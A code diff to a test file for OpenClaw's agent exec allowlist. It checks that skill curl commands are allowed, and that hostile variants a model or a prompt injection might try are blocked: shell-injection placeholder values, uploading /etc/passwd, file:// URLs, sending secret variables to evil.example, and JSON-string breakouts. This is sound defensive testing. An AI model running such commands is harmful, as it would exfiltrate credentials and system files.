@@ -6,7 +6,7 @@ import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { describe, expect, it } from "vitest";
-import { emitTarget, exampleBrain, fixtureBrain, repoRoot } from "../../test/helpers.js";
+import { emitTarget, openclawBrains, repoRoot, skillCommand } from "../../test/helpers.js";
 import openclaw from "./index.js";
 import { mcpToolName } from "./mcp-names.js";
 
@@ -35,40 +35,80 @@ type Evaluate = (params: Record<string, unknown>) => Promise<{ analysisOk: boole
  */
 const openclawEvaluator = () => chunkExport<Evaluate>(chunk!, "evaluateShellAllowlistWithAuthorization");
 
-/** Every brain the conformance run builds: brain/ and each test/fixtures/brains/openclaw-* (overlays in their env). */
-const brains: [string, string, string | undefined][] = [
-  ["brain/", exampleBrain, undefined],
-  ...readdirSync(join(repoRoot, "test/fixtures/brains"))
-    .filter((n) => n.startsWith("openclaw-"))
-    .sort()
-    .flatMap((n): [string, string, string | undefined][] => [[n, fixtureBrain(n), undefined], ...(existsSync(join(fixtureBrain(n), "overlays/prod.yaml")) ? [[`${n} [prod]`, fixtureBrain(n), "prod"] as [string, string, string]] : [])]),
-];
+const brains = openclawBrains();
 
-/** The fenced sh block of a SKILL.md. */
-const commandOf = (skill: string) => /\n```sh\n([\s\S]*?)\n```\n/.exec(skill)?.[1] ?? "";
+
+/** A hostile value for a placeholder: shell syntax that must stay literal (no `'`: the skill has the model write it encoded). */
+const HOSTILE = "it\\u0027s $HOME; `id` | sh *?[a] {b,c} $(x) ${y} \"q\" /../?a=b&c#d";
+/** encodeURIComponent that also encodes `!'()*`, as the skill tells the model to encode URL values. */
+const uriEncode = (s: string) => encodeURIComponent(s).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
 
 /**
- * A command as the model would run it: each argument placeholder filled with a value full of shell
- * syntax that must stay literal (with `'` encoded, as the skill says: `%27` in URLs, `\u0027` in the
- * body); curl's own `{{NAME}}` variables (imported with `--variable %NAME`) are left as they are.
+ * A command as the model would run it: each argument placeholder filled with {@link HOSTILE} (or `url`
+ * where the URL starts with the placeholder), written as the skill says: URL-encoded in the URL and in
+ * `--url-query` values, JSON-escaped in the `--data-raw` body, as is in a header; curl's own `{{NAME}}`
+ * variables (imported with `--variable %NAME`) are left as they are.
  */
-function filledIn(command: string): string {
+function filledIn(command: string, url = "https://status.example.com/health?full=1"): string {
   const variables = new Set([...command.matchAll(/--variable '%([A-Za-z0-9_]+)/g)].map((m) => m[1]));
-  return command.replace(/\{\{(\w+)\}\}/g, (m, name: string) => (variables.has(name) ? m : "it\\u0027s $HOME; `id` | sh *?[a] {b,c} $(x) ${y}"));
+  const words = command.match(/'[^']*'|\S+/g)!;
+  return words
+    .map((word, i) => {
+      const before = words[i - 1];
+      return word.replace(/\{\{(\w+)\}\}/g, (m, name: string, offset: number) => {
+        if (variables.has(name)) return m;
+        if (before === "-H") return HOSTILE;
+        // The skill says a value may not hold `{` where curl expands its own {{variables}}.
+        if (before === "--expand-header") return HOSTILE.replace(/[{}]/g, "");
+        if (before === "--data-raw") return JSON.stringify(HOSTILE).slice(1, -1);
+        return offset === 1 && before !== "--url-query" ? url : uriEncode(HOSTILE);
+      });
+    })
+    .join(" ");
 }
 
+/** Commands that a model (or a prompt injection) might try instead of a skill's own: each must be an allowlist miss. */
+function hostileVariants(command: string): [string, string][] {
+  const filled = filledIn(command);
+  const variants: [string, string][] = [
+    ["an added option that writes a file", filled.replace(/^curl /, "curl -o /tmp/brainc-x ")],
+    ["an added option that reads a config file", filled.replace(/^curl /, "curl -K /tmp/brainc-x ")],
+    ["an added upload of a file", `${filled} --data-binary @/etc/passwd`],
+  ];
+  // A URL that starts with a placeholder picks the host (brain-format.md allows `url: "{{url}}"`), but only an http(s) URL.
+  if (/ '\{\{\w+\}\}/.test(command)) variants.push(["a file: URL", filledIn(command, "file:///etc/passwd")]);
+  else variants.push(["another host", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example")], ["curl's own variable sent elsewhere", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example/{{X}}")]);
+  if (/(?:'https?:\/\/[^']*\/[^']*|--url-query '[^']*)\{\{\w+\}\}/.test(command)) variants.push(["an unencoded URL value", filled.replace(uriEncode(HOSTILE), "x/../admin?y=1&z")]);
+  const variable = /--variable '%([A-Za-z0-9_]+)/.exec(command)?.[1];
+  if (variable && /--expand-header '[^']*\{\{[a-z]\w*\}\}/.test(command)) variants.push(["a header value that names a secret curl would expand there", filled.replace(HOSTILE.replace(/[{}]/g, ""), `{{${variable}}}`)]);
+  if (/--data-raw '[^']*\{\{\w+\}\}/.test(command)) variants.push(["a body value that ends its JSON string", filled.replace(JSON.stringify(HOSTILE).slice(1, -1), 'x","channel":"other')]);
+  return variants;
+}
+
+type Allowlist = Record<string, { allowlist: { pattern: string; argPattern?: string }[] }>;
+
 describe.skipIf(!installed)(`skills' commands pass OpenClaw's exec allowlist analysis${installed ? "" : skipped}`, () => {
-  it.each(brains)("%s: every skill command is one line that OpenClaw analyses and matches to the curl allowlist entry", async (_label, dir, env) => {
+  it.each(brains)("%s: every skill command is one line that OpenClaw analyses and matches to the agent's curl entries in exec-approvals.json, and nothing else curl might run does", async (_label, dir, env) => {
     expect(chunk, `openclaw's exec-approvals-allowlist chunk in ${dist}`).toBeDefined();
     const evaluate = await openclawEvaluator();
     const { files } = await emitTarget(openclaw, dir, env);
+    const approvals = files.find((f) => f.path === "exec-approvals.json");
+    const agents = (approvals ? JSON.parse(approvals.contents).agents : {}) as Allowlist;
+    const check = (command: string, allowlist: unknown[]) => evaluate({ command, cwd: repoRoot, env: process.env, platform: "linux", allowlist, safeBins: new Set(), allowShellBuiltins: true });
     const skills = files.filter((f) => f.path.endsWith("/SKILL.md"));
     for (const skill of skills) {
-      const command = commandOf(skill.contents);
+      const agent = /^workspaces\/([^/]+)\//.exec(skill.path)![1];
+      const allowlist = agents[agent]?.allowlist ?? [];
+      expect(allowlist.filter((e) => e.pattern === "curl" && !e.argPattern), `${agent}: curl with any arguments`).toEqual([]);
+      const command = skillCommand(skill.contents);
       expect(command, skill.path).toMatch(/^curl [^\n]+$/);
-      for (const c of [command, filledIn(command)]) {
-        const r = await evaluate({ command: c, cwd: repoRoot, env: process.env, platform: "linux", allowlist: [{ pattern: "curl" }], safeBins: new Set(), allowShellBuiltins: true });
-        expect({ path: skill.path, command: c, analysisOk: r.analysisOk, allowlistSatisfied: r.allowlistSatisfied, reason: r.authorizationPlan?.reason }).toEqual({ path: skill.path, command: c, analysisOk: true, allowlistSatisfied: true, reason: undefined });
+      // The command as written (placeholders unfilled, which URL values may not hold) is analysed; as filled in, it is allowed too.
+      expect({ path: skill.path, analysisOk: (await check(command, allowlist)).analysisOk }).toEqual({ path: skill.path, analysisOk: true });
+      const filled = filledIn(command);
+      const r = await check(filled, allowlist);
+      expect({ path: skill.path, command: filled, analysisOk: r.analysisOk, allowlistSatisfied: r.allowlistSatisfied, reason: r.authorizationPlan?.reason }).toEqual({ path: skill.path, command: filled, analysisOk: true, allowlistSatisfied: true, reason: undefined });
+      for (const [what, c] of hostileVariants(command)) {
+        expect({ path: skill.path, what, allowlistSatisfied: (await check(c, allowlist)).allowlistSatisfied }).toEqual({ path: skill.path, what, allowlistSatisfied: false });
       }
     }
   });
